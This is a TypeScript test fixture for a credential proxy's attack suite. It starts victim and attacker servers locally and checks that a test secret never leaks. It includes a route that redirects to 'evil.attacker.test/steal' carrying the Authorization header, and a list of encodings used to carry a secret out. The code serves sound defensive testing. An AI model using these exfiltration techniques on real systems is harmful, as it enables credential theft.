/**
 * The attack suite's shared fixture: one real Airlock (home, API, proxy)
 * per test file, a victim upstream the secret is bound to, and an
 * attacker's servers (HTTPS and plain HTTP) that record every byte they
 * receive. Each attack asserts three things: the secret never reached the
 * attacker's sink, the error code the agent got, and the audit record.
 */
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { connect as netConnect } from 'node:net';
import type { TestContext } from 'node:test';
import type { TLSSocket } from 'node:tls';
import { gzipSync } from 'node:zlib';
import type { ProxyOptions } from '../../src/proxy/index.ts';
import type { RunningServer } from '../../src/server.ts';
import { api, initTestHome, runCli, serveTestHome, type TestHome } from '../helpers/airlock.ts';
import { createTestPki, type TestPki } from '../helpers/pki.ts';
import {
  basicProxyAuth,
  openTunnel,
  type RawResponse,
  ResponseReader,
} from '../helpers/tunnel-client.ts';
import {
  type RecordedRequest,
  startUpstream,
  type TestUpstream,
  type UpstreamHandler,
} from '../helpers/upstream.ts';

/** The real credential the attacker is after. */
export const SECRET = 'ghp_attack_suite_value_5e2b9d71c04a';
/** A second, low-value secret bound to the attacker's own (granted) host. */
export const NOTES_SECRET = 'notes_attack_value_0a1b2c3d4e5f';
export const VICTIM = 'api.victim.test';
export const ATTACKER = 'evil.attacker.test';
export const PLAIN_ATTACKER = 'plain.attacker.test';

type Json = Record<string, unknown>;

/** `t.assert`: assertions counted by `t.plan`. */
export type Asserter = TestContext['assert'];

/** Every form in which a value could be carried out: raw, base64, base64url, URL- and JSON-escaped, hex. */
export function encodings(value: string): string[] {
  return [
    value,
    Buffer.from(value).toString('base64'),
    Buffer.from(value).toString('base64url'),
    encodeURIComponent(value),
    JSON.stringify(value).slice(1, -1),
    Buffer.from(value).toString('hex'),
  ];
}

/** True when any encoding of the secret is in `text`. */
export function holdsSecret(text: string): boolean {
  return encodings(SECRET).some((e) => text.includes(e));
}

function collect(req: Parameters<UpstreamHandler>[0]): Promise<Buffer> {
  return new Promise((resolve, reject) => {
    const parts: Buffer[] = [];
    req.on('data', (d: Buffer) => parts.push(d));
    req.on('end', () => resolve(Buffer.concat(parts)));
    req.on('error', reject);
  });
}

/** Reflects the request back in one encoding: the way an upstream (or an attacker) could echo a credential. */
function reflect(
  encode: (text: string) => Buffer,
  contentType: string,
  gzip = false,
): UpstreamHandler {
  return async (req, res, record) => {
    const body = await collect(req);
    record.body = body.toString('utf8');
    const text = JSON.stringify({ url: req.url, headers: req.headers, body: record.body });
    const payload = gzip ? gzipSync(encode(text)) : encode(text);
    const headers: Record<string, string> = {
      'content-type': contentType,
      'content-length': String(payload.length),
      'x-echo-auth': String(req.headers.authorization ?? ''),
    };
    if (gzip) headers['content-encoding'] = 'gzip';
    res.writeHead(200, headers);
    res.end(payload);
  };
}

const victimRoutes: Record<string, UpstreamHandler> = {
  '/repos/echo': reflect((t) => Buffer.from(t), 'application/json'),
  '/repos/echo-base64': reflect(
    (t) => Buffer.from(Buffer.from(t).toString('base64')),
    'text/plain',
  ),
  '/repos/echo-url': reflect((t) => Buffer.from(encodeURIComponent(t)), 'text/plain'),
  '/repos/echo-json': reflect((t) => Buffer.from(JSON.stringify({ s: t })), 'application/json'),
  '/repos/echo-gzip': reflect((t) => Buffer.from(t), 'application/json', true),
  // Past the size the proxy scrubs whole (64 KiB): relayed as a scrubbed stream.
  '/repos/echo-large': reflect((t) => Buffer.from(`${t}${' '.repeat(100_000)}${t}`), 'text/plain'),
  '/repos/echo-header': async (req, res) => {
    await collect(req);
    res.writeHead(200, {
      'x-reflected': String(req.headers.authorization ?? ''),
      'set-cookie': `s=${String(req.headers.authorization ?? '')}`,
      'content-length': '2',
    });
    res.end('ok');
  },
  '/repos/redirect': async (req, res) => {
    await collect(req);
    const auth = encodeURIComponent(String(req.headers.authorization ?? ''));
    res.writeHead(302, {
      location: `https://${ATTACKER}/steal?c=${auth}`,
      'content-length': '0',
    });
    res.end();
  },
  '/repos/never-ends': async (req, res) => {
    await collect(req);
    res.writeHead(200, { 'content-type': 'application/octet-stream' });
    const chunk = Buffer.alloc(64 * 1024, 0x61);
    const pump = (): void => {
      while (!res.destroyed && res.write(chunk)) {}
      if (!res.destroyed) res.once('drain', pump);
    };
    res.once('close', () => res.destroy());
    pump();
  },
};

export interface AttackProduct {
  readonly home: TestHome;
  readonly server: RunningServer;
  readonly pki: TestPki;
  readonly victim: TestUpstream;
  readonly attacker: TestUpstream;
  readonly plainAttacker: TestUpstream;
  /** bot's agent key (granted GET and POST on `/repos/**` of the victim, and the attacker's `notes`). */
  readonly agentKey: string;
  /** A second agent, for "other agents keep working". */
  readonly otherKey: string;
  readonly caPem: string;
  /** `airlock ARGS --home HOME`, asserting exit 0. */
  cli(args: readonly string[], stdin?: string): Promise<string>;
  /** The admin API over TCP as the owner. */
  api(method: string, path: string, body?: unknown): ReturnType<typeof api>;
  /** Starts a task for bot and returns its token, task id and jti. */
  task(scope: string, ttl?: string): Promise<{ token: string; taskId: string; jti: string }>;
  /** Mints the task's placeholders: secret name → placeholder text. */
  placeholders(taskId: string): Promise<Record<string, string>>;
  /** The last audit sequence number: what came before an attack. */
  mark(): Promise<number>;
  /** Waits for the first audit event after `mark` that matches, and returns its `event`. */
  audited(mark: number, match: (e: Json) => boolean, what: string): Promise<Json>;
  /** Every audit event after `mark` (no waiting). */
  eventsAfter(mark: number): Promise<Json[]>;
  /** A verified tunnel to `host:port` as `key` (default bot). */
  tunnel(host: string, port: number, key?: string, servername?: string | null): Promise<TLSSocket>;
  /**
   * Writes `raw` in a fresh tunnel and reads one response; `null` when the
   * proxy closed the connection without one.
   */
  send(host: string, port: number, raw: string | Buffer, key?: string): Promise<RawResponse | null>;
  /** A raw plain-HTTP exchange on the proxy port: exactly the bytes given. */
  sendPlain(raw: string | Buffer): Promise<RawResponse | null>;
  /** Everything the attacker's servers received. */
  sink(): readonly RecordedRequest[];
  /** Asserts (one planned assertion) that no form of the secret ever reached the attacker. */
  assertNoLeak(a: Asserter): void;
  close(): Promise<void>;
}

/** The `error.code` of a proxy JSON error body. */
export function codeOf(res: RawResponse | null): string | undefined {
  if (res === null) return undefined;
  const header = res.headers['x-airlock-error'];
  if (header !== undefined) return header;
  try {
    const body = JSON.parse(res.body) as Json;
    const error = body.error;
    if (typeof error === 'object' && error !== null) return String((error as Json).code);
    if (typeof body.code === 'string') return body.code;
  } catch {}
  return undefined;
}

/** Starts the product: one per attack file, reused across its tests. */
export async function startAttackProduct(extra: ProxyOptions = {}): Promise<AttackProduct> {
  const home = await initTestHome();
  const pki = await createTestPki();
  const victim = await startUpstream({ tls: pki.upstreamCert(VICTIM), routes: victimRoutes });
  const attacker = await startUpstream({ tls: pki.upstreamCert(ATTACKER) });
  const plainAttacker = await startUpstream();
  const server = await serveTestHome(home.paths, undefined, {
    allowPrivate: ['127.0.0.1/32'],
    ...extra,
    resolve: [
      ...(extra.resolve ?? []),
      { host: VICTIM, port: victim.port, address: '127.0.0.1' },
      { host: ATTACKER, port: attacker.port, address: '127.0.0.1' },
      { host: ATTACKER, port: 443, address: '127.0.0.1' },
      { host: PLAIN_ATTACKER, port: plainAttacker.port, address: '127.0.0.1' },
    ],
    upstreamCa: [pki.upstreamCaPem],
  });
  const callApi: AttackProduct['api'] = (method, path, body) =>
    api(server, home.ownerKey, method, path, body);
  const cli = async (args: readonly string[], stdin?: string): Promise<string> => {
    const r = await runCli(
      [...args, '--home', home.paths.home],
      stdin === undefined ? {} : { stdin },
    );
    assert.equal(r.code, 0, `${args.join(' ')}: ${r.stderr}`);
    return r.stdout;
  };
  const must = async (path: string, body: unknown): Promise<Json> => {
    const r = await callApi('POST', path, body);
    assert.equal(r.status, 201, `${path}: ${JSON.stringify(r.body)}`);
    return r.body;
  };
  await must('/v1/secrets', { name: 'github', value: SECRET });
  await must('/v1/secrets', { name: 'notes', value: NOTES_SECRET });
  const agentKey = String((await must('/v1/agents', { name: 'bot' })).key);
  const otherKey = String((await must('/v1/agents', { name: 'bystander' })).key);
  await must('/v1/services', {
    name: 'github',
    hosts: [`${VICTIM}:${victim.port}`],
    paths: ['/repos/**'],
    auth: { kind: 'bearer' },
    secret: 'github',
    env: 'GITHUB_TOKEN',
  });
  await must('/v1/services', {
    name: 'notes',
    hosts: [`${ATTACKER}:${attacker.port}`],
    auth: { kind: 'bearer' },
    secret: 'notes',
    env: 'NOTES_TOKEN',
  });
  await must('/v1/grants', { agent: 'bot', service: 'github', methods: ['GET', 'POST'] });
  await must('/v1/grants', { agent: 'bot', service: 'notes' });
  await must('/v1/grants', { agent: 'bystander', service: 'github', methods: ['GET'] });
  const caPem = String(((await callApi('GET', '/v1/ca')).body.ca as Json).bundlePem);

  const eventsAfter = async (mark: number): Promise<Json[]> => {
    const r = await callApi('GET', `/v1/audit?order=asc&limit=1000&cursor=${mark}`);
    return ((r.body.events as Json[] | undefined) ?? []).map((x) => x.event as Json);
  };
  const tunnel: AttackProduct['tunnel'] = (host, port, key = agentKey, servername) =>
    openTunnel(server.proxy.port, host, port, {
      key,
      ca: caPem,
      ...(servername === undefined ? {} : { servername }),
    });
  const exchangeOnce = async (
    stream: TLSSocket | ReturnType<typeof netConnect>,
    raw: string | Buffer,
  ): Promise<RawResponse | null> => {
    const reader = new ResponseReader(stream);
    stream.write(raw);
    try {
      return await reader.response(/^HEAD /.test(raw.toString('latin1')));
    } catch {
      return null;
    } finally {
      stream.destroy();
    }
  };
  const sink = (): RecordedRequest[] => [...attacker.requests, ...plainAttacker.requests];
  return {
    home,
    server,
    pki,
    victim,
    attacker,
    plainAttacker,
    agentKey,
    otherKey,
    caPem,
    cli,
    api: callApi,
    async task(scope, ttl = '30m') {
      const r = await callApi('POST', '/v1/tasks', { agent: 'bot', scope, ttl });
      assert.equal(r.status, 201, JSON.stringify(r.body));
      return {
        token: String(r.body.token),
        taskId: String((r.body.task as Json).id),
        jti: String(r.body.jti),
      };
    },
    async placeholders(taskId) {
      const r = await callApi('POST', `/v1/tasks/${taskId}/placeholders`);
      assert.equal(r.status, 201, JSON.stringify(r.body));
      const out: Record<string, string> = Object.create(null);
      for (const p of r.body.placeholders as Json[]) out[String(p.secret)] = String(p.placeholder);
      return out;
    },
    async mark() {
      const r = await callApi('GET', '/v1/audit?limit=1');
      const first = (r.body.events as Json[] | undefined)?.[0];
      return first === undefined ? 0 : Number(first.seq);
    },
    async audited(mark, match, what) {
      const deadline = Date.now() + 10_000;
      for (;;) {
        const found = (await eventsAfter(mark)).find(match);
        if (found !== undefined) return found;
        if (Date.now() > deadline) {
          throw new Error(`no audit event ${what}: ${JSON.stringify(await eventsAfter(mark))}`);
        }
        await new Promise((resolve) => setTimeout(resolve, 10));
      }
    },
    eventsAfter,
    tunnel,
    async send(host, port, raw, key = agentKey) {
      return exchangeOnce(await tunnel(host, port, key), raw);
    },
    async sendPlain(raw) {
      const socket = netConnect({ host: '127.0.0.1', port: server.proxy.port });
      await new Promise<void>((resolve, reject) => {
        socket.once('connect', resolve);
        socket.once('error', reject);
      });
      return exchangeOnce(socket, raw);
    },
    sink,
    assertNoLeak(a) {
      a.equal(holdsSecret(JSON.stringify(sink())), false, 'the secret reached the attacker');
    },
    async close() {
      await server.close();
      await victim.close();
      await attacker.close();
      await plainAttacker.close();
      await pki.cleanup();
      await home.cleanup();
    },
  };
}

/** `Proxy-Authorization` for a key or token. */
export const proxyAuth = basicProxyAuth;

/** Reads a whole file, or '' when it cannot. */
export async function readOrEmpty(path: string): Promise<string> {
  return readFile(path, 'latin1').catch(() => '');
}

/**
 * The three assertions every refusal makes (plan 3): the agent got `code`,
 * the audit log holds a `proxy.denied` with that code, and the attacker's
 * sink holds no form of the secret.
 */
export async function assertRefused(
  t: TestContext,
  p: AttackProduct,
  mark: number,
  res: RawResponse | null,
  code: string,
  kind = 'proxy.denied',
): Promise<Record<string, unknown>> {
  t.assert.equal(codeOf(res), code, `agent got ${res?.status} ${res?.body}`);
  const e = await p.audited(mark, (e) => e.kind === kind && e.code === code, `${kind} ${code}`);
  t.assert.equal(e.code, code);
  p.assertNoLeak(t.assert);
  return e;
}

/** A GET with the given Host, closing the connection after. */
export function get(path: string, host: string, extra = ''): string {
  return `GET ${path} HTTP/1.1\r\nHost: ${host}\r\n${extra}Connection: close\r\n\r\n`;
}

/**
 * `CONNECT authority` presenting `key`: the status and headers of the
 * answer (the code is in `X-Airlock-Error`), without waiting for a tunnel
 * that opened to end.
 */
export async function connectOnce(
  proxyPort: number,
  authority: string,
  key: string | null,
): Promise<RawResponse> {
  const socket = netConnect({ host: '127.0.0.1', port: proxyPort });
  const reader = new ResponseReader(socket);
  const auth = key === null ? '' : `Proxy-Authorization: ${basicProxyAuth(key)}\r\n`;
  socket.write(`CONNECT ${authority} HTTP/1.1\r\nHost: ${authority}\r\n${auth}\r\n`);
  try {
    const { status, headers } = await reader.head();
    return { status, headers, body: '' };
  } finally {
    socket.destroy();
  }
}

/** `t.assert.ok` for a boolean, counted by `t.plan`. */
export function check(t: TestContext, cond: boolean, message?: string): void {
  t.assert.equal(cond, true, message);
}
